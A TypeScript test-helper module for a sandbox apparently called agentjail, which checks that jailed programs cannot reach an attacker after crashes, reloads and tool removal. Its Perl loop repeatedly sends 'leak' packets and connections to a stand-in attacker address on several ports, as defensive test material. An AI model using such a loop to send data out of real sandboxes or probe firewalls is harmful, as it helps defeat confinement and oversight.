/**
 * What the tests of crashes, reloads and many jails share: a policy, a jailed program that never stops trying,
 * and the judge.
 */
import { setTimeout as sleep } from 'node:timers/promises'
import type { Test } from 'tap'
import { evil } from '../lab/addresses.js'
import { createLab, type Lab } from '../lab/lab.js'
import { agentjailPath } from '../lab/paths.js'
import type { Packet } from '../lab/pcap.js'

export { random, seed } from '../scenarios/death.js'

export const isolations = ['namespace', 'uid'] as const
export type Isolation = (typeof isolations)[number]

export const policyPath = '/etc/agentjail/policies/faults.yaml'
export const policy = `version: 1
name: faults
network:
  allow:
    - { host: plain.example, ports: [80], inspect: none }
    - { host: plain.example, ports: [443] }
`

/** Datagrams and connections to the attacker on granted and other ports, both families, without end. */
const trying = (ports: string, pause: number) => [
  'perl',
  '-e',
  String.raw`
use strict; use Socket qw(:all); use Fcntl; $| = 1;
my @to = map { my $p = $_; ([AF_INET, pack_sockaddr_in($p, inet_aton('${evil.v4}'))],
  [AF_INET6, pack_sockaddr_in6($p, inet_pton(AF_INET6, '${evil.v6}'))]) } ${ports};
socket(my $u4, AF_INET, SOCK_DGRAM, 0); socket(my $u6, AF_INET6, SOCK_DGRAM, 0);
print "started\n";
while (1) {
  for my $t (@to) {
    send($t->[0] == AF_INET ? $u4 : $u6, 'leak', MSG_DONTWAIT, $t->[1]) for 1 .. 3;
    socket(my $s, $t->[0], SOCK_STREAM, 0) or next;
    fcntl($s, F_SETFL, O_NONBLOCK); connect($s, $t->[1]); send($s, 'leak', MSG_DONTWAIT); close $s;
  }
  select undef, undef, undef, ${pause};
}`,
]
/** As fast as a shared machine bears. */
export const hammer = trying('53, 80, 443, 51820', 0.002)
/** Leaves the gate time for what is granted. */
export const knocks = trying('443, 51820', 0.05)

export const toEvil = (p: Packet): boolean =>
  [evil.v4, evil.v6].some((address) => address === p.dst || address === p.src)

/** Of the default reserved range. */
export const jailed = (lab: Lab) => lab.processes().filter(({ uid }) => uid >= 1_900_000_000)

export const gates = (lab: Lab) =>
  lab.processes().filter(({ command }) => /^agentjail-gate/.test(command))

/** Looks until it holds; at most `tries` times, every 50 ms. */
export async function eventually(check: () => boolean | Promise<boolean>, tries = 100) {
  for (let n = 0; n < tries; n++) {
    if (await check()) return true
    await sleep(50)
  }
  return false
}

// The firewall's tool: a test takes it away and puts it back.
const mayStay =
  /^-?\/(usr\/sbin\/(nft|iptables-restore)?$|var\/(log|lib)\/agentjail|run\/agentjail\/(last-uid|deny\.seen|stage\/|jails\/)?$)/

/** What is left of any jail, judged by the kernel; the caller called `lab.remember` when all was set up. */
export async function leftOf(lab: Lab) {
  const { files, cgroups, ...others } = await lab.leftovers()
  return {
    others,
    // They are the machine's: another test may run beside this one.
    cgroups: (cgroups ?? []).filter((path) => path.includes('/faults')),
    files: (files ?? []).filter((path) => !mayStay.test(path)),
  }
}

export async function nothingLeft(t: Test, lab: Lab, name: string) {
  const { files, cgroups, others } = await leftOf(lab)
  t.same(cgroups, [], `${name}: control groups`)
  t.same(others, {}, `${name}: rules, links, routes, processes, namespaces, mounts`)
  t.same(files, [], `${name}: files`)
}

export const cwd = '/srv/work'

export interface Bench {
  readonly lab: Lab
  readonly isolation: Isolation
  readonly prefix: readonly string[]
}

/** A lab with that policy, a workspace, and agentjail on the PATH, where the jail has run once. */
export async function openBench(t: Test, isolation: Isolation): Promise<Bench> {
  const lab = await createLab()
  t.teardown(() => lab.close())
  lab.writeFile(policyPath, policy)
  lab.writeFile('/srv/work/README', 'a workspace\n')
  const agentjail = `#!/bin/sh\nexec ${process.execPath} '${agentjailPath}' "$@"\n`
  lab.writeFile('/usr/local/bin/agentjail', agentjail, 0o755)
  const prefix = ['run', '-q', '--policy', policyPath, '--isolation', isolation]
  const ready = await lab.agentjail([...prefix, '--', 'true'], { cwd })
  t.equal(ready.code, 0, ready.stderr)
  await lab.remember()
  await lab.capture.clear()
  return { lab, isolation, prefix }
}

export const start = async ({ lab, prefix }: Bench, argv: readonly string[] = knocks) => {
  const jail = lab.spawnAgentjail([...prefix, '--', ...argv], { timeout: 900_000, cwd })
  await jail.until(/started/, 20_000)
  return jail
}

/** Into the jail that runs. */
export const joining = ['run', '--join', 'faults', '--'] as const

export const joined = (lab: Lab, argv: readonly string[], timeout = 20_000) =>
  lab.agentjail([...joining, ...argv], { timeout })

export const granted = (lab: Lab) =>
  joined(lab, ['curl', '-sS', '--max-time', '5', 'https://plain.example/ok'])

/** One test for each; AGENTJAIL_CASE: only those whose name has it. */
export async function eachCase(
  t: Test,
  bench: Bench,
  timeout: number,
  cases: Readonly<Record<string, (t: Test, bench: Bench) => Promise<void>>>,
  after?: (t: Test, name: string) => Promise<void>,
) {
  const only = process.env['AGENTJAIL_CASE']
  for (const [name, run] of Object.entries(cases))
    if (only === undefined || name.includes(only))
      await t.test(name, { timeout }, async (t) => {
        await run(t, bench)
        await after?.(t, name)
      })
}

export const gc = async (t: Test, lab: Lab, name: string) => {
  const result = await lab.agentjail(['gc'], { timeout: 30_000 })
  t.equal(result.code, 0, `${name}: gc: ${result.stderr}`)
}

export const silence = async (t: Test, lab: Lab, name: string) => {
  t.same(await lab.capture.packets(toEvil), [], `${name}: nothing reached the attacker`)
}

/** Another program in that one's place; puts it back. */
export const broken = async (lab: Lab, program: string, text: string) => {
  const put = await lab.run(['sh', '-c', `mv ${program} ${program}.away && cat > ${program}`], {
    input: text,
  })
  if (put.code !== 0) throw new Error(put.stderr)
  await lab.run(['chmod', '755', program])
  return async () => {
    await lab.run(['mv', '-f', `${program}.away`, program])
  }
}

export const pathOf = async (lab: Lab, name: string) =>
  (await lab.run(['sh', '-c', `readlink -f $(command -v ${name})`])).stdout.trim()
